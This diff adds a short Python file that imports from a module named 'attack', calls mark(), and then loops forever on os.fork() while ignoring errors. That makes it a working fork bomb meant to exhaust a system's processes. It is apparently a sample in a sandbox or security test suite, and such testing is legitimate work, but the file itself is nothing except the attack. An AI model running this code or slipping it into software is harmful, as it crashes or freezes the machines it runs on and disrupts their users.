@@ -1,0 +1,8 @@
+from attack import *
+
+mark()
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
